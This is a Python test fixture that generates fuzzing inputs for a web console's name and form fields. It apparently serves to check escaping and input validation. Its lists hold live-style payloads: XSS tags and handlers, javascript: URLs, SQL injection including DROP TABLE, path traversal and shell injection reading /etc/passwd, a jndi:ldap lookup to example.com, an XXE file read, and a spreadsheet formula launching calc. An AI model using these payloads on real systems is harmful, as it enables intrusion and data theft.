"""Texts that mean harm: payloads of many forms for the places in a page out of which they would break, and whatever else programs
have stumbled over. The same in every run, each of them once.

    python3 tests/console/harm.py      prints them, with where each would break out
"""

import dataclasses
import html
import unicodedata
import urllib.parse

# The longest name that the engine takes.
LONGEST = 500


@dataclasses.dataclass(frozen=True)
class Harm:
    """A text, and where in a page it would do something if it stood there as it is; `None` if nowhere."""

    text: str
    place: str | None = None

    @property
    def is_name(self) -> bool:
        """Whether the engine takes it for a name; what it refuses comes back in forms all the same."""
        seen = any(not unicodedata.category(c).startswith(("Z", "C")) for c in self.text)
        return seen and len(self.text) <= LONGEST and not any(unicodedata.category(c) == "Cc" for c in self.text)


# What runs, or loads, where markup is taken as such; `{n}` is a number of its own.
RUNS = [
    "<script>window.hit={n}</script>",
    "<img src=/none-{n}.png onerror=window.hit={n}>",
    "<svg onload=window.hit={n}>",
    '<iframe srcdoc="<script>parent.hit={n}</script>"></iframe>',
    "<details open ontoggle=window.hit={n}>",
    "<input autofocus onfocus=window.hit={n}>",
]
# What has to come first, so that markup begins: the end of what it stands in.
BREAKS = {
    "text": "",
    "double": '">',
    "single": "'>",
    "title": "</title>",
    "textarea": "</textarea>",
    "select": "</option></select>",
    "cell": "</td></tr></table>",
    "style": "</style>",
    "script": "</script>",
    "comment": "-->",
    "short comment": "--!>",
    "noscript": "</noscript>",
    "template": "</template>",
    "xmp": "</xmp>",
    "svg": "</title></svg>",
    "link": '"></a>',
}
TAGS = [
    "<a href=javascript:window.hit={n}>click</a>", "<a href=//example.com/{n}>away</a>",
    "<a href=/{n} target=_blank ping=//example.com>ping</a>", "<abbr title={n} onclick=window.hit={n}>", "<applet code=//example.com/{n}></applet>",
    "<area href=javascript:window.hit={n}>", "<audio src=x{n} onerror=window.hit={n}></audio>", "<b>bold {n}</b>",
    "<base href=//example.com/{n}/>", "<bgsound src=//example.com/{n}>", "<blink>{n}</blink>", "<button formaction=javascript:window.hit={n}>send</button>",
    "<canvas id=c{n}></canvas>", "<center>{n}</center>", "<crm-card onclick=window.hit={n}>", "<dialog open onclose=window.hit={n}>{n}</dialog>",
    "<div style=position:fixed;inset:0>{n}</div>", "<embed src=javascript:window.hit={n}>", "<fencedframe src=//example.com/{n}></fencedframe>",
    "<font size=7>{n}</font>", "<form action=//example.com/{n}><button>send</button></form>", "<form id=x{n}></form><button form=x{n} formaction=javascript:window.hit={n}>x</button>",
    "<iframe src=javascript:parent.hit={n}></iframe>", "<iframe src=//example.com/{n}></iframe>", "<iframe src=data:text/html,{n}></iframe>",
    "<image src=x{n} onerror=window.hit={n}>", "<img src=//example.com/{n}.png>", "<img srcset='//example.com/{n}.png 2x'>",
    "<img/src=x{n}/onerror=window.hit={n}>", "<img src=x{n}\u00a0onerror=window.hit={n}>", "<IMG SRC=x{n} ONERROR=window.hit={n}>",
    '<img """><script>window.hit={n}</script>">', "<img src='x{n}' onerror='window.hit={n}", "<input type=image src=//example.com/{n}.png>",
    "<input type=password oninput=window.hit={n}>", "<isindex action=javascript:window.hit={n}>", "<keygen autofocus onfocus=window.hit={n}>",
    "<link rel=stylesheet href=//example.com/{n}.css>", "<link rel=import href=//example.com/{n}>", "<listing>{n}</listing>",
    "<marquee onstart=window.hit={n}>{n}</marquee>", "<math><a xlink:href=javascript:window.hit={n}>m</a></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:window.hit={n}>m</maction></math>",
    "<math><mtext><table><mglyph><style><img src=x{n} onerror=window.hit={n}>", "<meta http-equiv=refresh content='0;url=//example.com/{n}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *' data-{n}>", "<meter onclick=window.hit={n}>{n}</meter>",
    "<noscript><p title='</noscript><img src=x{n} onerror=window.hit={n}>'>", "<object data=javascript:window.hit={n}></object>",
    "<object type=text/html data=//example.com/{n}></object>", "<picture><source srcset=//example.com/{n}></picture>", "<plaintext>{n}",
    "<portal src=//example.com/{n}></portal>", "<progress onclick=window.hit={n}>", "<q cite=javascript:window.hit={n}>q</q>",
    "<s onmouseenter=window.hit={n}>struck</s>", "<script src=//example.com/{n}.js></script>", "<script src=data:,window.hit={n}></script>",
    "<SCRIPT>window.hit={n}</SCRIPT>", "<script\u00a0>window.hit={n}</script>", "<script/x>window.hit={n}</script>", "<script type=module>window.hit={n}</script>",
    "<scr<script>ipt>window.hit={n}</scr</script>ipt>", "<<script>window.hit={n}//<</script>", "<script>window.hit={n}<!--",
    "<slot name={n} onslotchange=window.hit={n}>", "<style>@import'//example.com/{n}.css'</style>", "<style>*{{display:none}}/*{n}*/</style>",
    "<svg><a href=javascript:window.hit={n}><text y=9>s</text></a></svg>", "<svg><animate onbegin=window.hit={n} attributeName=x dur=1s>",
    "<svg><animate attributeName=href values=javascript:window.hit={n} /></svg>", "<svg><foreignObject><iframe src=x{n}></iframe></foreignObject></svg>",
    "<svg><script href=data:,window.hit={n} /></svg>", "<svg><set attributeName=href to=javascript:window.hit={n}></svg>",
    "<svg><use href=data:image/svg+xml,{n}#x></use></svg>", "<svg><style><img src=x{n} onerror=window.hit={n}></style></svg>",
    "<svg><desc><![CDATA[</desc><script>window.hit={n}</script>]]></desc></svg>", "<table background=//example.com/{n}.png>", 
    "<template shadowrootmode=open><img src=x{n} onerror=window.hit={n}></template>", "<textarea autofocus onfocus=window.hit={n}>", "<track onerror=window.hit={n}>",
    "<u onpointerover=window.hit={n}>under</u>", "<video><source onerror=window.hit={n}></video>", "<video poster=//example.com/{n}.png></video>",
    "<wbr onclick=window.hit={n}>", "<x contenteditable onblur=window.hit={n}>{n}</x>", "<xmp><p title='</xmp><img src=x{n} onerror=window.hit={n}>'>",
    "<xss id=x{n} tabindex=1 onfocus=window.hit={n}></xss>", "<?xml version='1.0'?><b>{n}</b>", "<!doctype html><b>{n}</b>", "<!--><img src=x{n} onerror=window.hit={n}>-->",
    "</p><br {n}>", "<body onload=window.hit={n}>", "<html onclick=window.hit={n}>", "<frameset onload=window.hit={n}>",
]  # fmt: skip
EVENTS = """abort afterprint animationend animationstart auxclick beforeinput beforematch beforetoggle blur cancel canplay change click
close contextmenu copy cuechange cut dblclick drag dragend dragstart drop durationchange emptied ended error focus focusin formdata
gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadstart message mousedown mouseenter mouseleave
mousemove mouseout mouseover mouseup mousewheel offline online pagehide pageshow paste pause play pointerdown pointerenter pointermove
pointerover pointerup popstate progress ratechange reset resize scroll scrollend search securitypolicyviolation seeked select
slotchange stalled storage submit suspend timeupdate toggle touchstart transitionend transitionrun unload volumechange waiting wheel""".split()
URLS = [
    "javascript:window.hit={n}", "JaVaScRiPt:window.hit={n}//", "javascript&colon;window.hit={n}", "javascript&#58;window.hit={n}",
    "&#106;avascript:window.hit={n}", "java&Tab;script:window.hit={n}", "java&NewLine;script:window.hit={n}", "javascript://%0awindow.hit={n}",
    "javascript:/*--></title></style></textarea></script>*/window.hit={n}", "javascript:'<b>'+(window.hit={n})", "view-source:javascript:{n}",
    "feed:javascript:window.hit={n}", "jar:javascript:{n}!/", "vbscript:window.hit={n}", "livescript:{n}", "mocha:{n}",
    "data:text/html,<script>window.hit={n}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgpPC9zY3JpcHQ+{n}",
    "data:image/svg+xml,<svg onload=window.hit={n}>", "data:application/xhtml+xml,{n}", "blob:null/{n}", "filesystem:http://x/{n}", "file:///etc/passwd{n}",
    "about:blank#{n}", "chrome://settings/{n}", "mailto:a@example.com?subject={n}", "tel:{n}", "ftp://example.com/{n}", "ws://example.com/{n}",
    "//example.com/elsewhere{n}", "/\\example.com/{n}", "\\\\example.com\\{n}", "///example.com/{n}", "https:example.com/{n}", "https:/example.com/{n}",
    "http://localhost@example.com/{n}", "http://example.com#@localhost/{n}", "http://[::1]:{n}/", "http://2130706433/{n}", "http://ｅｘａｍｐｌｅ.com/{n}",
]  # fmt: skip
CODED = [
    "<script>window.hit={n}</script>",
    '"><img src=x onerror=window.hit={n}>',
    "' onfocus=window.hit={n} autofocus x='",
    "javascript:window.hit={n}",
]
TEMPLATES = [
    "{{{{7*7}}}}{n}", "{{{{{{7*7}}}}}}{n}", "${{7*7}}{n}", "#{{7*7}}{n}", "*{{7*7}}{n}", "@{{7*7}}{n}", "<%= 7*7 %>{n}", "<% window.hit={n} %>", "<?= 7*7 ?>{n}",
    "{{% raw %}}{n}", "{{% include '/etc/passwd' %}}{n}", "{{# {n} #}}", "[[${{7*7}}]]{n}", "[(7*7)]{n}", "{{{{constructor.constructor('window.hit={n}')()}}}}",
    "{{{{'a'.constructor.prototype.charAt=[].join;$eval('{n}')}}}}", "{{{{self.__init__.__globals__}}}}{n}", "{{{{config}}}}{n}", "{{{{request|attr('{n}')}}}}",
    "{{{{range.constructor('return {n}')()}}}}", "`${{window.hit={n}}}`", "$(window.hit={n})", "$({n})", "~~{n}~~", "**bold {n}**", "[link {n}](javascript:window.hit={n})",
    "![x](//example.com/{n}.png)", "<ng-app>{{{{{n}}}}}", "v-html='{n}'", "{{{{=<% %>=}}}}{n}", "{{{{> partial{n}}}}}", "{{{{#with 's' as |s|}}}}{n}", "#set($x={n})$x", "<#assign x={n}>${{x}}",
    "{{php}}echo {n};{{/php}}", "@(7*{n})", "={{7*{n}}}",
]  # fmt: skip
SCRIPTS = [
    '";window.hit={n};//', "';window.hit={n};//", '"-(window.hit={n})-"', "'-(window.hit={n})-'", '\\";window.hit={n};//', "\\\\';window.hit={n};//", "`;window.hit={n};//",
    "x\u2028window.hit={n}", "x\u2029window.hit={n}", "*/window.hit={n}/*", "//\u2028{n}", "]]>window.hit={n}", "<!--<script>{n}", "<!--{n}", "-->{n}",
    "__proto__", "constructor", "toString", "hasOwnProperty", "valueOf{n}", "null", "undefined", "NaN", "Infinity", "true", "false", "[object Object]", "0{n}", "-{n}", "1e999{n}", "0x{n}",
    '{{"__proto__":{{"hit":{n}}}}}', '{{"$where":"window.hit={n}"}}', '["{n}"]', '"{n}"', "{n};}}catch(e){{}}", "}}]}}{n}", "&callback=window.hit={n}", "?jsonp={n}",
]  # fmt: skip
# Those of them that would run in a text of a script, by the mark it stands in.
IN_SCRIPT = {'"': "script text", "'": "script word"}
CSS = [
    "x:expression(window.hit={n})", "color:red;background:url(//example.com/{n})", "}}*{{display:none}}/*{n}*/", "url(javascript:window.hit={n})", "@import '//example.com/{n}';",
    "-moz-binding:url(//example.com/{n})", "behavior:url({n}.htc)", "\\3c script\\3e window.hit={n}", "/*{n}*/", "</style{n}", "content:'\\22 {n}'", ";{n}", "!important{n}", "var(--{n})",
]  # fmt: skip
SQL = [
    "' OR 1=1 -- {n}", "' OR 'a'='a{n}", '" OR ""="{n}', "'; DROP TABLE customers; -- {n}", "\"); DROP TABLE customers; -- {n}", "') UNION SELECT password FROM users -- {n}", "1;ATTACH '/tmp/{n}' AS x",
    "' || (SELECT sql FROM sqlite_master) || '{n}", "'/**/OR/**/{n}", "%' ESCAPE '\\{n}", "%_%{n}", "[a-z]%{n}", "O'Brien {n}", "''{n}", "'''{n}", '""{n}', "`{n}`", "x' AND load_extension('{n}') --", "$1 :a ?{n} @b",
    "{n}) OR (1=1", "NULL -- {n}", "0; SELECT randomblob({n}e9)", "*:* OR name:{n}", "\"a\" NEAR \"{n}\"", "a* AND NOT b{n}", "{n}^2 -x +y",
]  # fmt: skip
PATHS = [
    "../../../etc/passwd{n}", "..\\..\\windows\\{n}.ini", "..%2f..%2f{n}", "..%252f{n}", "....//....//{n}", "/etc/passwd%00{n}", "C:\\boot.ini{n}", "\\\\?\\C:\\{n}", "CON{n}", "NUL.txt{n}", "aux.{n}",
    "~root/{n}", ".htaccess{n}", "-rf {n}", "--help={n}", "a/b/../c{n}", "a//b{n}", "name?query={n}#part", "a;b={n}", "a:b{n}", "?{n}", "#{n}", "&{n}=1", "a=b&c=d#e{n}", "%{n}", "%zz{n}", "%u003c{n}",
    "%0d%0aSet-Cookie:{n}", "%00{n}", "%c0%ae%c0%ae/{n}", "%E2%80%AE{n}", "+{n}+", "@{n}", "new", "board", "pick",
]  # fmt: skip
SHELL = [
    "; cat /etc/passwd {n}", "| id {n}", "$(id) {n}", "`id` {n}", "&& id {n}", "%s%s%n{n}", "%x %p {n}", "%{n}$s", "{{0}}{n}", "{{0.__class__}}{n}", "{{}}{n}", "%(name)s{n}", "%-0{n}d", "$HOME{n}", "%PATH%{n}",
    "${{jndi:ldap://example.com/{n}}}", "!{n}", "!!{n}", "\\{n}", "\\n{n}", "\\x00{n}", "\\u0000{n}", "() {{ :; }}; id {n}", "=cmd|' /C calc'!A{n}", "=HYPERLINK(\"//example.com/{n}\")", "+1+{n}", "-1-{n}", "@SUM(1,{n})",
    "=1+{n}", "'={n}", "*)(uid=*))(|(uid={n}", "' or name()='{n}", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/{n}'>]>&e;", "&e{n};", "<![CDATA[{n}]]>", "a,b;c|d{n}", "\"a\",\"{n}\"", "X-Header: {n}",
]  # fmt: skip
# Marks that turn the direction, or aren't seen.
MARKS = [0x200E, 0x200F, 0x061C, *range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x00AD, 0x034F, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2064, 0xFEFF, 0xFE0F,
         0xFFF9, 0xFFFB, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0xFDD0, 0x2800, 0x3164, 0xE0001, 0xE0041, 0xE0100, 0xF8FF, 0x10FFFF, 0x0338, 0x20D2, 0x0489]  # fmt: skip
# What looks like markup to people, to old programs, or once it was folded.
LIKE = [
    "＜script＞window.hit={n}＜/script＞", "＜ｓｃｒｉｐｔ＞alert＜／ｓｃｒｉｐｔ＞{n}", "﹤script﹥window.hit={n}", "‹script›window.hit={n}", "〈script〉window.hit={n}", "《script》window.hit={n}", "「onload」＝{n}", "＂onload＝{n}＂",
    "＇onfocus＝{n}＇", "“ onfocus=window.hit={n} ”", "‘ onfocus=window.hit={n} ’", "ｊａｖａｓｃｒｉｐｔ：{n}", "javascript：window.hit={n}", "<ѕсrірt>window.hit={n}</ѕсrірt>", "<ſcript>window.hit={n}</ſcript>", "<scrıpt>window.hit={n}</scrıpt>",
    "<ＩＭＧ src=x{n} onerror＝1>", "𝐬𝐜𝐫𝐢𝐩𝐭 {n}", "ⓢⓒⓡⓘⓟⓣ {n}", "🄢🄒🄡🄘🄟🄣 {n}", "华东<b>{n}</b>有限公司", "上海\"'><&{n}公司", "《<i>》{n}", "张三&李四&lt;{n}", "縗<b>{n}", "表'<b>{n}", "繁體<img src=x{n}>", "客户＆lt；{n}", "人人人人{n}；＜",
    "العربية <b>{n}</b> مع", "עברית \"{n}\" <i>", "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308{n}", "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L{n}", "👩‍👩‍👧‍👦<b>{n}", "🇨🇳🏴󠁧󠁢󠁥󠁮󠁧󠁿{n}", "ﷺ﷽{n}", "ﬁﬂ<{n}", "İıẞ<{n}", "\u1d2cdmin{n}", "аdmin{n}", "adⅿin{n}",
]  # fmt: skip


def coded(text: str) -> list[str]:
    """The same in the letters of others."""
    ends = {"<": "＜", ">": "＞", '"': "＂", "'": "＇"}
    return [
        html.escape(text), html.escape(html.escape(text)), "".join(f"&#{ord(c)};" for c in text[:40]), "".join(f"&#x{ord(c):X}" for c in text[:40]), "".join(f"&#{ord(c):07}" for c in text[:30]),
        urllib.parse.quote(text), urllib.parse.quote(urllib.parse.quote(text)), "".join(f"\\u{ord(c):04x}" for c in text[:40]), "".join(f"\\x{ord(c):02x}" for c in text[:40]),
        "".join(f"\\{ord(c):o}" for c in text[:40]), "".join(f"\\{ord(c):x} " for c in text[:40]).strip(), text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-") + "+AC0-",
        text.replace("<", "%C0%BC").replace("'", "%C0%A7"), "".join(ends.get(c, c) for c in text) + "…", text.replace("s", "s\u200b"), text.replace("i", "i\u00ad"), text.replace("=", "\u2009="),
        text[::-1], text.encode().hex(), text.replace("<", "\u00bc").replace(">", "\u00be"), "\u202e" + text, text.upper(), text.replace("<", "&lt").replace(">", "&gt"),
    ]  # fmt: skip


def strings() -> list[Harm]:
    found: dict[str, Harm] = {}

    def add(pattern: str, place: str | None = None) -> None:
        text = pattern.format(n=len(found) + 1)
        found.setdefault(text, Harm(text, place))

    def add_text(text: str, place: str | None = None) -> None:
        found.setdefault(text, Harm(text, place))

    for place, before in BREAKS.items():
        for run in RUNS:
            add(before.replace("{", "{{") + run, place)
    for tag in TAGS:
        add(tag, "text")
    for tag in ["<td background=javascript:window.hit={n}>", "<tr onclick=window.hit={n}>", "<caption onclick=window.hit={n}>{n}"]:
        add(tag, "cell")
    for at, event in enumerate(EVENTS):
        quote, place = [('"', "double"), ("'", "single"), ("", "bare")][at % 3]
        add(f"x{quote} on{event}={quote}window.hit={{n}}{quote} x={quote}", place)
    for url in URLS:
        add(url, "link")
    for text in CODED:
        for way in range(len(coded(text))):
            add_text(coded(text.format(n=len(found) + 1))[way])
    for text in SCRIPTS:
        add(text, IN_SCRIPT.get(text[0]) if "hit" in text[:22] else None)
    for text in [*TEMPLATES, *CSS, *SQL, *PATHS, *SHELL, *LIKE]:
        add(text)
    for mark in MARKS:
        add(f"a{chr(mark)}<b>{{n}}{chr(mark)}z")
    # Controls, which no name may have.
    for control in [*range(1, 0x20), 0x7F, *range(0x80, 0xA0, 3)]:
        add(f"java{chr(control)}script:<b{chr(control)}>{{n}}")
    # Nothing that is seen is no name either.
    add_text("\u200b\u2060")
    # Very long ones, as long as may be, and longer.
    for one in ["<", ">", '"', "'", "&", "&lt;", "<b>", "\u202e", "{{{{", "%", "\\", "🐘", "字<", "a\u0301", "] ]>"]:
        plain = one.replace("{{", "{").replace("}}", "}")
        add_text((plain * LONGEST)[: LONGEST - 8] + f"{len(found) + 1}<i>")
    for run in RUNS[:4]:
        text = run.format(n=len(found) + 1)
        add_text("长" * (LONGEST - len(text)) + text, "text")
        add_text("x" * 5_000 + text, "text")
    return list(found.values())


def folded(text: str) -> str:
    """As the engine compares names that must be each another, or more strictly."""
    seen = "".join(c for c in text if unicodedata.category(c) not in ("Cf", "Cc", "Cn", "Co", "Mn"))
    return unicodedata.normalize("NFKC", unicodedata.normalize("NFKC", seen).casefold()).strip()


if __name__ == "__main__":
    for one in strings():
        print(one.place or "-", ascii(one.text), sep="\t")
